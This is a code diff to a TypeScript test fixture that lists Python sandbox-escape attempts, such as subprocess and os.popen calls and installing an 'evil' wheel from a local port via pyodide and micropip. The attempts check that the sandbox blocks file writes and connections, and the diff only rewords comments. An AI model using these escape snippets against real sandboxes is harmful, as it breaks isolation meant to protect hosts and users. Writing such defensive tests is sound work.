@@ -1,4 +1,4 @@
-/** Ways out of the Python sandbox, as code: FOLDER has a secret.txt and gets nothing new, PORT is listened at, and hears nothing. */
+/** Escapes from the Python sandbox as code: FOLDER has a secret.txt and must not get new files; PORT must receive no connections. */
 export const sandboxAttacks: Readonly<Record<string, string>> = {
   subprocess: 'import subprocess\nsubprocess.run(["touch", "FOLDER/made"])',
   'os.popen': 'import os\nprint(os.popen("touch FOLDER/made").read())',
@@ -36,5 +36,5 @@ export const sandboxAttacks: Readonly<Record<string, string>> = {
   'installing a package': 'import pyodide_js\nawait pyodide_js.loadPackage("http://127.0.0.1:PORT/evil-1.0-py3-none-any.whl")\nimport evil',
   micropip: 'import micropip\nawait micropip.install("http://127.0.0.1:PORT/evil-1.0-py3-none-any.whl")',
 }
-/** These do not fail: a thread that may do nothing, an environment that is Python's own. */
+/** These succeed harmlessly: a thread without permissions, an environment that is Python's own. */
 export const harmlessAttacks: readonly string[] = ['another thread', 'the environment']
